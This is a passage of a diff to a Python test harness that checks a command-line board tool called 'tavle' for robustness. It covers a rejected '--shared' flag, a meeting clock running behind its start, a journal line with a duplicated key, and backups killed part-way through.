+    result(not problems, f"--shared: {n} commands other than the board refuse it (exit 1), showing no name; the board honours it",
+           "; ".join(problems[:4]))
+
+
+def meeting_clock(tavle, template, work):
+    """Finding 14 (last part): a clock behind the meeting's start gives no negative time."""
+    d = fresh_copy(template, work, "meeting-clock")
+    run([tavle, "--data", d, "meeting", "start", "--minutes", "15"], env=dict(os.environ, TAVLE_NOW="2026-11-22T09:00:00+01:00"))
+    r = run([tavle, "--data", d, "meeting", "status", "--json"], env=dict(os.environ, TAVLE_NOW="2026-11-22T07:45:00+01:00"))
+    try:
+        t = json.loads(r.stdout)["time"]
+    except (ValueError, KeyError):
+        t = {}
+    result(t.get("elapsed") == 0 and t.get("remaining") == 900, "meeting clock: a clock 75 minutes behind the start shows 0 elapsed and 15:00 left, never 90:00",
+           str(t))
+
+
+def duplicate_key_line(tavle, template, work):
+    """Finding 15: a journal line with a key twice is unreadable, and check says so."""
+    d = fresh_copy(template, work, "dup-key")
+    run([tavle, "--data", d, "set", "thea", "warning", "real"])
+    path = os.path.join(d, "journal.jsonl")
+    lines = read(path).split(b"\n")
+    lines[-2] = lines[-2].replace(b'"field":"warning"', b'"field":"warning","field":"goals"', 1)
+    with open(path, "wb") as f:
+        f.write(b"\n".join(lines))
+    c = run([tavle, "--data", d, "check"])
+    result(c.returncode == 2 and b"journal.jsonl" in c.stdout and b"twice" in c.stdout,
+           "journal: a line with a key twice in one object is unreadable and named by check", c.stdout.decode(errors="replace")[:200])
+
+
+def backup_killed(tavle, d, work, kills):
+    """Finding 13: a killed backup leaves nothing beside its target."""
+    rnd = random.Random(int(os.environ.get("REL_SEED", "6")))
+    out = os.path.join(work, "killed-backups")
+    os.makedirs(out, exist_ok=True)
+    problems = []
+    for i in range(kills):
+        target = os.path.join(out, f"b{i}.json")
+        p = subprocess.Popen([tavle, "--data", d, "backup", target], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+        time.sleep(rnd.uniform(0.5, 6.0))
+        p.kill()
+        p.wait()
+        left = [x for x in os.listdir(out) if x != f"b{i}.json"]
+        if p.returncode != 0 and os.path.exists(target):
+            problems.append(f"kill {i}: a killed backup left {target}")
+        if left:
+            problems.append(f"kill {i}: left {left}")
+        if os.path.exists(target):
+            os.unlink(target)
+    result(not problems, f"backup: {kills} backups of a journal past 1 GiB killed part-way leave nothing beside the target",
+           "; ".join(problems[:3]))
+
+
 if __name__ == "__main__":
     cmd, args = sys.argv[1], sys.argv[2:]
     if cmd == "concurrency":
@@ -758,6 +1384,36 @@ if __name__ == "__main__":
         inject_check(args)
     elif cmd == "csv-mutate":
         csv_mutate(args[0], args[1], args[2], int(args[3]))
+    elif cmd == "import-kills":
+        import_kills(args[0], args[1], args[2], int(args[3]), int(args[4]), int(args[5]))
+    elif cmd == "memory":
+        memory(args[0], args[1], int(args[2]), int(args[3]), args[4])
+    elif cmd == "big-journal":
+        print(big_journal(args[0], int(args[1])))
+    elif cmd == "lock-removal":
+        lock_removal(args[0], args[1], args[2], int(args[3]), int(args[4]))
+    elif cmd == "numbers":
+        numbers(*args)
+    elif cmd == "check-writers":
+        check_beside_writers(args[0], args[1], args[2], int(args[3]))
+    elif cmd == "fifos":
+        fifos(*args)
+    elif cmd == "size-limit":
+        size_limit(*args)
+    elif cmd == "csv-formulas":
+        csv_formulas(*args)
+    elif cmd == "purge-kills":
+        purge_kills(*args)
+    elif cmd == "migrate-kills":
+        migrate_kills(args[0], args[1], args[2], int(args[3]))
+    elif cmd == "shared":
+        shared(*args)
+    elif cmd == "meeting-clock":
+        meeting_clock(*args)
+    elif cmd == "duplicate-key":
+        duplicate_key_line(*args)
+    elif cmd == "backup-killed":
+        backup_killed(args[0], args[1], args[2], int(args[3]))
     elif cmd == "replay":
         p = replay_problems(args[0])
         result(not p, f"replay {args[0]}", "; ".join(p[:4]))
